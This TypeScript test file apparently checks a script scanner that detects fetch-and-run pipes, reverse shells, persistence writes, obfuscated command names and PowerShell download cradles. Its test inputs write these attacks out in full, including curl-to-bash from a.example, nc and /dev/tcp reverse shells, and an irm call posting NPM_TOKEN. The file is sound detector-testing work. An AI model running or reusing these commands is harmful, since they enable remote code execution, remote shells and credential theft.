import assert from "node:assert/strict";
import { test } from "node:test";
import { fileFacts } from "./files.ts";

const can = (text: string, path = "a.sh"): readonly string[] =>
  fileFacts(path, Buffer.from(text)).sightings.map(({ capability, subject, concealed }) =>
    `${capability} ${subject}${concealed ? " (concealed)" : ""}`.trim(),
  );
const flows = (text: string, path = "a.sh"): readonly string[] => [
  ...new Set(fileFacts(path, Buffer.from(text)).flows.map(({ from, to }) => `${from} -> ${to}`)),
];
const encoded16 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

test("what is fetched and run is seen in every way to write it", () => {
  for (const code of [
    "curl -fsSL https://a.example/x.sh | sudo -E bash -s -- --yes",
    "bash <(curl -s https://a.example/x)",
    'bash <<< "$(curl -s https://a.example/x)"',
    'bash -c "$(curl -fsSL https://a.example/x)"',
    "wget https://a.example/bin && chmod +x bin && ./bin",
    "curl -O https://a.example/tool; nohup ./tool &",
    'curl https://a.example/t -o "$TMP/t"; $TMP/t',
  ])
    assert.deepEqual(flows(`${code}\n`), ["network -> process"], code);
  assert.deepEqual(flows("wget https://a.example/data.tgz\ntar xf data.tgz\n./configure\n"), []);
});

test("a shell that is spoken to over the network is seen", () => {
  for (const code of [
    "bash -i >& /dev/tcp/127.0.0.1/9001 0>&1",
    "nc -e /bin/sh 127.0.0.1 9001",
    "socat tcp:127.0.0.1:9001 exec:sh",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9001 > /tmp/f",
  ])
    assert.deepEqual(flows(`${code}\n`), ["network -> process"], code);
  assert.deepEqual(flows("nc -z 127.0.0.1 9001\n"), []);
});

test("what starts programs again counts where it is written, not where it is read or spoken of", () => {
  for (const code of [
    "echo x >> ~/.bashrc",
    'RC=$HOME/.zshrc\necho x >> "$RC"',
    "cp a.service /etc/systemd/system/a.service",
    "echo x | crontab -",
  ])
    assert.ok(
      can(`${code}\n`).some((one) => one.startsWith("persistence")),
      code,
    );
  for (const code of [
    '[ -r "$HOME/.bashrc" ] && . "$HOME/.bashrc"',
    'echo "Usage: /etc/init.d/x {start|stop}"',
    "crontab -l",
    'echo "now run systemctl enable x"',
  ])
    assert.ok(!can(`${code}\n`).some((one) => one.startsWith("persistence")), code);
});

test("a command's name that is put together is that command, and concealed", () => {
  assert.ok(can("a=cu;b=rl\n$a$b https://a.example/x\n").includes("network a.example (concealed)"));
  assert.ok(can("cu''rl https://a.example/x\n").includes("network a.example (concealed)"));
  assert.ok(can("CURL=curl\n$CURL https://a.example/x\n").includes("network a.example"));
});

test("a program on the command line is read in its own language", () => {
  assert.ok(can(`python3 -c 'import pyperclip; pyperclip.paste()'\n`).includes("clipboard paste"));
  assert.ok(can(`node -e "require('child_process').execSync('id')"\n`).includes("process id"));
  assert.deepEqual(flows(`sh -c 'curl https://a.example/ | sh'\n`), ["network -> process"]);
  assert.deepEqual(flows(`powershell -nop -enc ${encoded16("IEX (New-Object Net.WebClient).DownloadString('https://a.example/')")}\n`), [
    "network -> dynamic-code",
  ]);
  assert.deepEqual(
    flows(`import os\nos.system("powershell -Command (New-Object Net.WebClient).DownloadString('https://a.example/') | iex")\n`, "a.py"),
    ["network -> dynamic-code"],
  );
});

test("PowerShell: what is fetched, decoded and run is followed through variables and files", () => {
  assert.deepEqual(flows("$c = New-Object Net.WebClient\n$s = $c.DownloadString('https://a.example/x')\nIEX $s\n", "a.ps1"), [
    "network -> dynamic-code",
  ]);
  assert.deepEqual(flows("iwr https://a.example/x | iex\n", "a.ps1"), ["network -> dynamic-code"]);
  assert.deepEqual(flows("Invoke-WebRequest https://a.example/x.exe -OutFile x.exe\nStart-Process x.exe\n", "a.ps1"), [
    "network -> process",
  ]);
  assert.deepEqual(flows("$t = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))\niex $t\n", "a.ps1"), [
    "encoded-text -> dynamic-code",
  ]);
  assert.deepEqual(flows("irm https://a.example/ -Method Post -Body $env:NPM_TOKEN\n", "a.ps1"), ["credential-variable -> network"]);
  assert.deepEqual(can("# iex (iwr https://a.example)\n<# iwr https://a.example | iex #>\nGet-ChildItem .\\src\n", "a.ps1"), []);
});
